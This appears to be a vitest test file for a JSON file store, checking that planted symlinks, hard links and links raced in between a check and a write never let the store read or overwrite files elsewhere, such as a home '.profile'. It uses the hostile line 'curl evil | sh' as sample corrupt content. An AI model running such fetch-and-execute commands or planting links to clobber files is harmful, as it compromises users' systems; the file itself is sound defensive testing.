/** The names beside a document can be guessed: a link that waits there is neither read nor written through. */

import { createHash } from "node:crypto";
import {
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import * as nodeFs from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { needs } from "../../../atomic/test/support/needs.ts";
import { openJsonStore } from "../../src/index.ts";
import { failureOf, forms, name, tempDir } from "./forms.ts";

interface Count {
  n: number;
}

const next = (draft: Count): void => void draft.n++;
const corrupt = "curl evil | sh\n";
const digest = createHash("sha256").update(corrupt).digest("hex").slice(0, 16);
const corruptName = `${name}.corrupt-${digest}`;

interface Victim {
  readonly what: string;
  /** Makes what the link leads to; returns where it leads, and a check that nothing became of it. */
  readonly prepare: (dir: string) => { readonly leadsTo: string; readonly check: () => void };
}

const victimAt = (path: string, leadsTo: string, content: string | undefined) => {
  if (content !== undefined) writeFileSync(path, content, { mode: 0o644 });
  return {
    leadsTo,
    check: (): void => {
      if (content === undefined) return expect(existsSync(path)).toBe(false);
      expect(readFileSync(path, "utf8")).toBe(content);
      expect(statSync(path).mode & 0o777).toBe(0o644);
    },
  };
};

const outside = (dir: string, content: string | undefined) => {
  const home = `${dir}-home`;
  mkdirSync(home);
  return victimAt(
    join(home, ".profile"),
    join("..", `${dir.split("/").at(-1)}-home`, ".profile"),
    content,
  );
};

const victims: readonly Victim[] = [
  { what: "a file elsewhere", prepare: (dir) => outside(dir, "mine\n") },
  {
    what: "a file elsewhere that looks like a backup",
    prepare: (dir) => outside(dir, '{"n":666}'),
  },
  { what: "nothing, elsewhere", prepare: (dir) => outside(dir, undefined) },
  { what: "a file beside it", prepare: (dir) => victimAt(join(dir, "victim"), "victim", "mine\n") },
  {
    what: "nothing, beside it",
    prepare: (dir) => victimAt(join(dir, "victim"), "victim", undefined),
  },
  {
    what: "the same bytes",
    prepare: (dir) => victimAt(join(dir, "victim"), "victim", corrupt),
  },
];

const inner = (): string => {
  const dir = join(tempDir(), "store");
  mkdirSync(dir);
  return dir;
};

describe.runIf(needs("posix")).each(forms)(
  "a planted link, $form",
  ({ open, update, reset, isRoot }) => {
    describe.each(victims)("to $what", ({ prepare }) => {
      it("at the name for corrupt bytes: they are kept under another one", async () => {
        for (const way of ["open", "reset"] as const) {
          const dir = inner();
          const { leadsTo, check } = prepare(dir);
          writeFileSync(join(dir, name), way === "open" ? corrupt : '{"n":1}', { mode: 0o600 });
          symlinkSync(leadsTo, join(dir, corruptName));
          const store = await open<Count>(dir, { defaults: { n: 0 }, onCorrupt: "quarantine" });
          if (way === "reset") {
            writeFileSync(join(dir, name), corrupt);
            await reset(store);
          }
          check();
          expect(lstatSync(join(dir, corruptName)).isSymbolicLink()).toBe(true);
          expect(readFileSync(join(dir, `${corruptName}-2`), "utf8")).toBe(corrupt);
          expect(store.recovery?.corrupt).toMatch(/-2$/);
        }
      });

      it("at the names of generations: it is replaced", async () => {
        for (const [backups, planted] of [
          [1, 1],
          [2, 1],
          [2, 2],
          [3, 2],
        ] as const) {
          const dir = inner();
          const { leadsTo, check } = prepare(dir);
          writeFileSync(join(dir, name), '{"n":1}', { mode: 0o600 });
          const store = await open<Count>(dir, { backups });
          await update(store, next);
          nodeFs.rmSync(join(dir, `${name}.backup-${planted}`), { force: true });
          symlinkSync(leadsTo, join(dir, `${name}.backup-${planted}`));
          for (let times = 0; times < 3; times++) await update(store, next);
          check();
          for (let number = 1; number <= backups; number++) {
            const at = join(dir, `${name}.backup-${number}`);
            expect(lstatSync(at).isFile()).toBe(true);
            expect(JSON.parse(readFileSync(at, "utf8"))).toEqual({ n: 5 - number });
          }
        }
      });

      it("among generations: it takes the place of none", async () => {
        const dir = inner();
        const { leadsTo, check } = prepare(dir);
        writeFileSync(join(dir, name), '{"n":9}', { mode: 0o600 });
        writeFileSync(join(dir, `${name}.backup-1`), '{"n":8}', { mode: 0o600 });
        symlinkSync(leadsTo, join(dir, `${name}.backup-2`));
        writeFileSync(join(dir, `${name}.backup-3`), '{"n":7}', { mode: 0o600 });
        await update(await open<Count>(dir, { backups: 3 }), next);
        check();
        const kept = [1, 2, 3].map((number) =>
          readFileSync(join(dir, `${name}.backup-${number}`), "utf8"),
        );
        expect(kept).toEqual(['{"n":9}', '{"n":8}', '{"n":7}']);
      });

      it("at the name for the older version: it is replaced, and removed", async () => {
        const dir = inner();
        const { leadsTo, check } = prepare(dir);
        writeFileSync(join(dir, name), '{"$version":1,"n":1}', { mode: 0o600 });
        symlinkSync(leadsTo, join(dir, `${name}.v1.backup`));
        const migrations = { 2: (value: unknown) => value };
        const store = await open<Count>(dir, { version: 2, migrations });
        expect(store.migratedFrom).toBe(1);
        check();
        expect(readdirSync(dir)).not.toContain(`${name}.v1.backup`);
      });

      it("at the name for the older version: it is replaced where the migration fails", async () => {
        const dir = inner();
        const { leadsTo, check } = prepare(dir);
        writeFileSync(join(dir, name), '{"$version":1,"n":1}', { mode: 0o600 });
        symlinkSync(leadsTo, join(dir, `${name}.v1.backup`));
        const migrations = {
          2: () => {
            throw new Error("no");
          },
        };
        expect(await failureOf(open<Count>(dir, { version: 2, migrations }))).toMatchObject({
          code: "ERR_HOOK",
          leftovers: [expect.stringMatching(/\.v1\.backup$/)],
        });
        check();
        const kept = join(dir, `${name}.v1.backup`);
        expect(lstatSync(kept).isFile()).toBe(true);
        expect(readFileSync(kept, "utf8")).toBe('{"$version":1,"n":1}');
      });

      it("is never restored from", async () => {
        for (const suffix of [".backup-1", ".v1.backup"]) {
          const dir = inner();
          const { leadsTo, check } = prepare(dir);
          writeFileSync(join(dir, name), corrupt);
          symlinkSync(leadsTo, join(dir, name + suffix));
          const options = { onCorrupt: "restore-backup", backups: 1, version: 2 } as const;
          const error = await failureOf(open<Count>(dir, options));
          expect(error).toMatchObject({ code: "ERR_SYMLINK", effect: "none" });
          expect((error as Error).message).toContain(suffix);
          check();
          expect(readFileSync(join(dir, name), "utf8")).toBe(corrupt);
        }
      });
    });

    it("and a planted other name: it is not changed", async () => {
      const dir = inner();
      const victim = join(dir, "victim");
      writeFileSync(victim, "mine\n", { mode: 0o666 });
      nodeFs.chmodSync(victim, 0o666);
      writeFileSync(join(dir, name), '{"n":1}', { mode: 0o600 });
      linkSync(victim, join(dir, `${name}.backup-1`));
      const store = await open<Count>(dir, { backups: 1 });
      // A root may refuse other names.
      const updated = await update(store, next).catch((error: unknown) => error);
      if (!isRoot) expect(updated).toEqual({ n: 2 });
      expect(readFileSync(victim, "utf8")).toBe("mine\n");
      expect(statSync(victim).mode & 0o777).toBe(0o666);
    });
  },
);

describe.runIf(needs("posix"))("a link that is put there between a look and what follows", () => {
  it.each([".backup-1", `.corrupt-${digest}`, ".v1.backup"])("at %s", async (suffix) => {
    const dir = inner();
    const home = join(dir, "home");
    mkdirSync(home);
    const victim = join(home, "victim");
    writeFileSync(victim, "mine\n", { mode: 0o644 });
    const at = join(dir, name) + suffix;
    const plant = (): void => {
      nodeFs.rmSync(at, { force: true });
      symlinkSync(victim, at);
    };
    const isCorrupt = suffix.startsWith(".corrupt");
    writeFileSync(join(dir, name), '{"n":1}', { mode: 0o600 });
    // Open to more than the document: its mode is looked at first, and then changed.
    if (!isCorrupt) writeFileSync(at, "{}", { mode: 0o644 });
    const plantsAfter =
      (method: "lstat" | "open") =>
      async (...args: readonly unknown[]): Promise<unknown> => {
        const call = nodeFs.promises[method] as (...all: readonly unknown[]) => Promise<unknown>;
        try {
          return await call(...args);
        } finally {
          if (args[0] === at) plant();
        }
      };
    for (const method of ["lstat", "open"] as const) {
      const fileSystem = {
        ...nodeFs,
        promises: { ...nodeFs.promises, [method]: plantsAfter(method) },
      };
      writeFileSync(join(dir, name), isCorrupt ? corrupt : '{"$version":1,"n":1}');
      const all = { path: join(dir, name), fileSystem: fileSystem as never, backups: 1 };
      const opened = await openJsonStore<Count>({
        ...all,
        defaults: { n: 0 },
        onCorrupt: "quarantine",
        version: 2,
      });
      await opened.update(next).catch(() => {});
      expect(readFileSync(victim, "utf8")).toBe("mine\n");
      expect(statSync(victim).mode & 0o777).toBe(0o644);
    }
  });
});
